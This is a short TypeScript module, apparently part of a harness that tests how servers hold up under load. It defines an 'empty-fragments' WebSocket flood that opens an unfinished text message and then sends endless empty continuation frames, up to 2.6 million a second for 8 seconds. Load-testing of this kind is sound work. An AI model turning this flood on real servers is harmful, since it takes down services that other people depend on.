import { type Attack, DELAYS } from "../attack.ts";
import { frame, manyFrames } from "../frames.ts";
import { floodFrames } from "./web_socket_flood.ts";

export const emptyFragments: Attack = {
  name: "empty-fragments",
  does: "one WebSocket sends a message in empty fragments that never ends, up to 2.6 million a second, for 8 s",
  seconds: 8,
  maxDelayMs: DELAYS.usual,
  right: [],
  isCheap: true,
  run: (target, seconds) =>
    floodFrames(target, seconds, manyFrames(frame("continuation", "", { fin: false }), 5000), {
      opening: frame("text", "", { fin: false }),
    }),
};
